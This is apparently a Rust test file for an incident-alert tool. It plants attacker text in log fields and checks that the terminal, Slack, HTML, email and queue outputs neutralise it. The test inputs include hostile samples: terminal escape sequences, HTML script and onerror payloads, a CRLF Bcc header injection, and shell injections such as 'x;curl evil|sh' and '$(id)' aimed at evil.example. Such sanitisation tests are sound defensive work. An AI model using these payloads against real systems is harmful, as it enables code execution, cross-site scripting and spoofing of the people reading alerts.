//! Text of an enemy in every place where a log and an account have room for it, and what each reader's program must not do
//! with it. The tests are named after the attacks.

use vpclink_responder::alerts::terminal;
use vpclink_responder::{alerts, ids};

use serde_json::Value;
use vpclink_responder::alerts::Message;
use vpclink_responder::incidents::Alert;

use crate::golden::explained;
use crate::incidents::{account, document};

/// An alert in whose path, endpoint, failure text and stage this stands.
fn planted(text: &str) -> Alert {
    let lines = [
        format!("(a) HTTP Method: GET, Resource Path: /{text}"),
        format!("(a) Sending request to https://orders.internal.example:8443/{text}"),
        format!("(a) Execution failed due to a network error communicating with endpoint: {text}"),
        "(a) Method completed with status: 504".to_owned(),
    ];
    let mut alert = explained(document(&lines), &account("no-healthy-target")).alerts.remove(0);
    alert.reason = text.to_owned();
    alert.news.example.source.stage = Some(text.to_owned());
    alert
}

fn message(text: &str) -> Message {
    alerts::message(&planted(text))
}

fn block(text: &str) -> String {
    terminal::block(&planted(text), terminal::Screen { color: false, width: 200 })
}

/// The texts of the chat notification that are shown as markup.
fn markup(text: &str) -> String {
    let chat: Value = serde_json::from_str(&message(text).bodies["https"]).unwrap();
    let steps = chat["content"]["nextSteps"].as_array().unwrap().iter().filter_map(Value::as_str);
    let shown = [&chat["content"]["title"], &chat["content"]["description"]];
    shown.into_iter().filter_map(Value::as_str).chain(steps).collect::<Vec<_>>().join("\n")
}

#[test]
fn terminal_escape() {
    for text in ["\u{1b}[2J\u{1b}[31mowned", "\u{9b}2Jowned", "a\u{8}\u{8}\u{8}b", "a\rb"] {
        let block = block(text);
        assert!(!block.chars().any(|c| c.is_control() && c != '\n'), "{block:?}");
    }
}

#[test]
fn terminal_hyperlink_by_osc_8() {
    let block = block("\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}");
    assert!(!block.contains('\u{1b}') && !block.contains('\u{7}'), "{block:?}");
}

#[test]
fn bidirectional_override_and_invisible_text() {
    let text = "abc\u{202e}txt.exe\u{200b}\u{2066}x";
    let alert = planted(text);
    let hidden =
        |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let mut bodies: Vec<String> = alerts::message(&alert).bodies.into_values().collect();
    bodies.extend([block(text), alerts::html_page(&[alert])]);
    for body in bodies {
        assert!(!body.chars().any(hidden), "{body:?}");
    }
}

#[test]
fn slack_mention_of_a_channel_or_person() {
    for text in ["<!channel>", "<!here|x>", "<@U012AB3CD>", "<!subteam^S1>"] {
        let markup = markup(text);
        assert!(!markup.contains("<!") && !markup.contains("<@"), "{markup}");
    }
}

#[test]
fn slack_link_in_somebodys_text() {
    let markup = markup("<https://evil.example|log lines> https://evil.example");
    assert!(!markup.contains("<https://evil.example"), "{markup}");
    // Outside of code no address stands as one, which Slack would make a link of.
    let outside: String = markup.split('`').step_by(2).collect();
    assert!(!outside.contains("https://evil.example"), "{outside}");
}

#[test]
fn slack_backticks_and_formats() {
    let markup = markup("`*bold*` _it_ ~gone~ ```");
    for line in markup.lines() {
        assert!(line.matches('`').count().is_multiple_of(2), "{line}");
        assert!(!line.contains("*bold*") || line.contains("`"), "{line}");
    }
}

#[test]
fn html_script_and_attribute() {
    for text in [
        "</pre><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)",
        "<img src=x onerror=alert(1)>",
    ] {
        let page = alerts::html_page(&[planted(text)]);
        assert_eq!(page.matches("<script").count(), 1, "{text}");
        assert!(!page.contains("<img"), "{text}");
        // Whatever of it is in the page is text: no quote ends an attribute, no bracket opens a tag.
        for attack in ["\" onmouseover", "' onfocus", "<script>alert"] {
            assert!(!page.contains(attack), "{text}");
        }
    }
}

#[test]
fn html_policy_forbids_what_is_not_ours() {
    let page = alerts::html_page(&[planted("x")]);
    let policy =
        page.split("Content-Security-Policy\" content=\"").nth(1).unwrap().split('"').next().unwrap();
    assert!(policy.starts_with("default-src 'none'; style-src 'sha256-"), "{policy}");
    assert!(!policy.contains("unsafe"), "{policy}");
}

#[test]
fn subject_line_break_adds_no_header() {
    let subject = message("x\r\nBcc: everybody@example.com\n\nbody").subject;
    assert!(!subject.chars().any(char::is_control), "{subject:?}");
    assert!(subject.chars().count() < 100);
}

#[test]
fn sns_attribute_takes_no_control_character_and_is_never_empty() {
    for text in ["\u{0}\r\n", "", "   ", "\u{200b}"] {
        for (name, value) in message(text).attributes {
            assert!(!value.is_empty() && !value.chars().any(char::is_control), "{name}: {value:?}");
        }
    }
}

#[test]
fn shell_metacharacters_in_a_command_to_copy() {
    for text in ["x;curl evil|sh", "$(id)", "`id`", "'; id; '", "x&&id", "x>y"] {
        let machine: Value = serde_json::from_str(&message(text).bodies["sqs"]).unwrap();
        for step in machine["next_steps"].as_array().unwrap() {
            for command in [&step["command"], &step["verify"]].into_iter().filter_map(Value::as_str) {
                assert!(!command.contains(text), "{command}");
            }
        }
    }
}

#[test]
fn region_of_a_log_chooses_no_host() {
    let mut alert = planted("x");
    alert.news.example.source.region = Some(ids::Region::new("evil.example/#"));
    let machine: Value = serde_json::from_str(&alerts::message(&alert).bodies["sqs"]).unwrap();
    assert_eq!(machine["links"]["logs"], Value::Null);
    assert!(!alerts::message(&alert).bodies["email"].contains("https://evil.example"));
}
